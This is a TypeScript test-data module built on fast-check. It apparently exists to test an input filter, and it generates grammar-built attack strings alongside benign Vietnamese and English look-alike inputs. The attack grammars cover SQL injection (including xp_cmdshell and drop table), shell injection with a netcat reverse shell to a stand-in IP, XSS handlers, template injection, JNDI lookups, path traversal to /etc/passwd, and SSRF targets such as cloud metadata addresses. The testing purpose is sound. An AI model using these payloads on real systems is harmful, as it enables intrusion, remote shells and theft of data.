/** Attacks put together by grammars, and what people and programs send that is none. */
import fc from 'fast-check'

const of = (...texts: string[]) => fc.constantFrom(...texts)
const join = (...parts: fc.Arbitrary<string>[]) => fc.tuple(...parts).map((all) => all.join(''))
const blank = of(' ', ' ', '\t', '/**/', '\n', '  ')
const number = fc.integer({ min: 0, max: 9999 }).map(String)
const word = of('abc', 'user1', 'tin', 'x', 'name', 'maso')
const mixed = (text: string) => fc.boolean().map((upper) => (upper ? text.toUpperCase() : text))
const key = (...texts: string[]) => of(...texts).chain(mixed)

const operand = fc.oneof(
  number,
  join(of("'"), word, of("'")),
  join(key('concat', 'char', 'substring', 'ascii', 'hex'), of('('), number, of(','), number, of(')')),
  join(of('('), key('select'), of(' '), number, of(')')),
  key('user()', 'version()', 'database()'),
)
const compare = join(operand, of('=', '<>', '>', ' like ', '<=>', ' in (1,2) or 1='), operand)
const comment = of('-- ', '-- -', '#', '/*', ';--')
const SQL = fc.oneof(
  join(of('1', '-1', '5)', "x'", "x')", 'x"'), blank, key('or', 'and'), blank, compare, comment),
  join(
    number,
    blank,
    key('union'),
    blank,
    of('', 'all ', 'distinct '),
    key('select'),
    blank,
    operand,
    of(','),
    operand,
    of('', '-- '),
  ),
  join(
    of("'", "1'", '"', "1')"),
    of(';'),
    of('', ' '),
    fc.oneof(
      join(key('drop table'), of(' '), word),
      join(key('select'), of(' '), operand),
      join(key('exec'), of(' xp_cmdshell '), of("'dir'")),
    ),
    comment,
  ),
  join(of("1'", '1"', '1'), of(' and ', ' or '), key('sleep(5)', 'benchmark(10000,md5(1))', 'pg_sleep(3)'), comment),
  join(of("'"), of('||', '+'), of('(select '), operand, of(')'), of("||'", "+'")),
)
const command = join(
  of(
    'cat /etc/hosts',
    'id',
    'whoami',
    'uname -a',
    'ls -la /',
    'wget http://a.example/x',
    'curl -s http://a.example',
    'nc -e /bin/sh 192.0.2.1 80',
    'ping -c 3 192.0.2.1',
    'ifconfig',
    'netstat -an',
    "c''at /etc/hosts",
    'c\\at /etc/hosts',
    '/bin/ls',
    '/???/c?t x',
    'cat$IFS/etc/hosts',
    '{cat,/etc/hosts}',
    'python3 -c 1',
    'ipconfig /all',
    'type c:\\x.txt',
    'powershell -nop -c x',
    'dir c:\\',
    'sleep 5',
    'echo $PATH',
  ),
)
const SHELL = fc.oneof(
  join(
    of('', '127.0.0.1', 'a.txt', '1'),
    of(';', '|', '||', '&&', '; ', ' | ', '\n'),
    command,
    of('', ';', ' #', ' &', '|'),
  ),
  join(of('', 'x'), of('$('), command, of(')')),
  join(of('', 'x'), of('`'), of('id', 'whoami', 'cat /etc/hosts', 'uname -a'), of('`')),
)
const call = of('alert(1)', 'confirm(document.domain)', "eval('a')", 'prompt`1`', "top['al'+'ert'](1)")
const HTML = fc.oneof(
  join(of('', '">', "'>", '-->'), of('<'), key('script'), of('>'), call, of('</script>')),
  join(
    of('', '"><'),
    of('<'),
    key('img', 'svg', 'body', 'input', 'video', 'details', 'iframe', 'marquee', 'x'),
    of(' ', '/', '\n'),
    of('src=x ', 'a=b ', ''),
    key('onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover'),
    of('=', ' = '),
    call,
    of('>', ''),
  ),
  join(of('"', "'", 'x" '), of(' '), key('onmouseover', 'onfocus', 'onclick'), of('='), of('"', "'", ''), call),
  join(of('javascript:', 'JaVaScRiPt:', 'java\tscript:', ' javascript:'), call),
)
const expression = of(
  '7*7',
  '1+1*2',
  "''.__class__",
  "config['a']",
  'a.b.c()',
  'request.application.__globals__',
  "'a'.constructor",
  'T(java.lang.Runtime).getRuntime()',
)
const CODE = fc.oneof(
  join(of('', 'x'), of('{{'), of('', ' '), expression, of('', ' '), of('}}')),
  join(of('${', '#{', '*{'), expression, of('}')),
  join(
    of('${'),
    of('jndi:', '${lower:j}ndi:', '${::-j}ndi:'),
    of('ldap://', 'rmi://', 'dns://'),
    of('a.example/x'),
    of('}'),
  ),
  join(of('<?php ', '<?= ', '<? '), of('system("id")', 'phpinfo()', '$a($b)'), of('; ?>', '')),
  join(
    of('system', 'passthru', 'shell_exec', 'eval', 'file_get_contents', 'base64_decode'),
    of('(', '/**/('),
    of('"id"', "'a'", '$_GET[0]'),
    of(')', ');'),
  ),
)
const up = of('../', '..\\', '..%2f', '....//', '..;/', '%2e%2e/')
const FILE = join(
  fc.array(up, { minLength: 2, maxLength: 6 }).map((all) => all.join('')),
  of('etc/passwd', 'windows/win.ini', 'config.php', 'x', 'WEB-INF/web.xml'),
)
const host = of(
  '127.0.0.1',
  '127.1',
  '2130706433',
  '0x7f000001',
  '0177.0.0.1',
  '[::1]',
  '[::ffff:7f00:1]',
  'localhost',
  '169.254.169.254',
  'metadata.google.internal',
  '10.1.2.3',
  '192.168.0.1',
  'kubernetes.default.svc',
  'x.nip.io',
  'host.docker.internal',
  '①②⑦.⓪.⓪.①',
)
const ADDRESS = join(
  of('http://', 'https://', '//', 'ftp://', 'http://a.b@', 'HTTP://'),
  host,
  of('', ':80', ':8080'),
  of('/', '/a', '/latest/meta-data/', ''),
)
export const ATTACK: { readonly [field: string]: fc.Arbitrary<string> } = {
  'request.sql': SQL,
  'request.shell': SHELL,
  'request.html': HTML,
  'request.code': CODE,
  'request.file': FILE,
  'request.address': ADDRESS,
}

const SYLLABLES =
  'thủ tục hành chính đăng ký khai sinh giấy phép kinh doanh hộ khẩu đất đai thuế bảo hiểm xã hội tuyển dụng công chức quyết định nghị định thông tư ủy ban nhân dân tỉnh huyện phường sở kế hoạch đầu tư y tế du lịch tra cứu hồ sơ kết quả hoặc và nếu thì'.split(
    ' ',
  )
const unmarked = (text: string) => text.normalize('NFD').replace(/\p{M}/gu, '').replaceAll('đ', 'd')
const prose = fc.array(of(...SYLLABLES), { minLength: 2, maxLength: 12 }).map((all) => all.join(' '))
const good = of('màn hình', 'tivi Samsung', 'ống nước', 'lốp xe', 'bàn phím', 'khung tranh', 'tủ lạnh')
const person = of("O'Brien", "D'Angelo", "Cư M'gar", "H'Mông", "Y'Moan", "L'Oréal", "Levi's 501", 'Nguyễn Thị Ánh')
const english = of(
  'credit union select committee',
  'drop shipping',
  'update your profile',
  'order by phone',
  'cat food',
  'find my phone',
  'alert level',
  'top 10 hotels',
  'where to eat',
  'java course',
  'less is more',
  'ruby ring',
  'go home',
  'host a party',
)
export const BENIGN = fc.oneof(
  prose,
  prose.map(unmarked),
  join(
    prose,
    of(' "', " '", ' (', ' - ', '; ', ' & ', '/', ', ', ': ', ' | ', ' + ', ' = ', ' > ', ' * ', ' -- '),
    prose,
    of('"', "'", ')', '', '.', '?', '!'),
  ),
  join(
    good,
    of(' '),
    fc.integer({ min: 1, max: 65 }).map(String),
    of('"', '" x 9"', ' inch', "''", '%', 'cm'),
    of('', ' #1', ' (mới)', ' -- giá rẻ', ' hoặc 27"', ' <5 triệu', ' & chân đế'),
  ),
  join(person, of('', ' and ', ' or ', ' & ', ', ', ' - '), person),
  join(english, of('', ', ', ' - ', ' / ', ': '), english),
  join(
    of('https://'),
    of('www.', '', 'dichvucong.'),
    of('example.com', 'tinh.example.gov.vn', 'vnexpress.example'),
    of('/', '/tin-tuc/1.html', '/a?b=c&d=e', '/watch?v=abc&t=2s', '/search?q=a+b'),
  ),
  fc.base64String({ minLength: 16, maxLength: 80 }),
  fc
    .record({
      page: fc.nat(99),
      q: english,
      tags: fc.array(of('a', 'b', 'tin tức'), { maxLength: 3 }),
      sort: of('date', '-name'),
    })
    .map((value) => JSON.stringify(value)),
  of(
    'std::vector<int> push_back',
    'int main() {',
    'array_map in php',
    'console.log not working',
    'css .class > a:hover',
    'git commit -m',
    'ls command linux',
    'foo->bar',
    'x => x + 1',
    'List<String>',
    'inner join on id',
    'regex \\d+',
    'a[i][j]',
    'null vs undefined',
    'HTTP 404',
    'C:\\Windows folder',
    '/etc folder linux',
  ),
  fc.uuid(),
  join(
    fc.integer({ min: 1, max: 28 }).map(String),
    of('/5/2026 - '),
    fc.integer({ min: 1, max: 28 }).map(String),
    of('/6/2026'),
  ),
)
